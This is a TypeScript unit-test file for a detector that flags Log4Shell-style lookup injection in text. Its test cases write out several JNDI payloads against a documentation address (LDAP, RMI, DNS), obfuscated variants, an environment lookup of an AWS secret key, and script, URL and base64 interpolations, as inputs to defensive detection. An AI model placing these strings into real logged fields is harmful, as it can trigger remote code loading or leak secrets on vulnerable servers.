import { describe, expect, it } from 'vitest';
import { wordsFound } from '../testing/words-found.ts';
import { detectLookup } from './detect-lookup.ts';

describe('detectLookup', () => {
  it.each([
    '${jndi:ldap://192.0.2.1/a}',
    '${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}',
    '${${upper:${lower:j}}ndi:dns://192.0.2.1}',
    'x ${ jndi:ldap://192.0.2.1',
  ])('resolves %s', (text) => {
    expect(wordsFound(detectLookup, text)).toEqual(['jndi-lookup']);
  });

  it('finds a lookup of the environment', () => {
    expect(wordsFound(detectLookup, '${env:AWS_SECRET_ACCESS_KEY}')).toEqual(['log-lookup']);
  });

  it.each([
    '${dns:address|a.example}',
    '${script:js:1}',
    '${url:UTF-8:http://a.example}',
    '${${base64:am5kaTpsZGFw}}',
  ])('finds the interpolation %s', (text) => {
    expect(wordsFound(detectLookup, text)).toEqual(['log-lookup']);
  });

  it.each(['${price}', '$100', '${a}${b}', 'jndi:ldap'])('leaves %s alone', (text) => {
    expect(wordsFound(detectLookup, text)).toEqual([]);
  });

  it('ends, however deep lookups are nested', () => {
    expect(wordsFound(detectLookup, '${lower:'.repeat(1000))).toEqual(['nested-lookup']);
  });
});
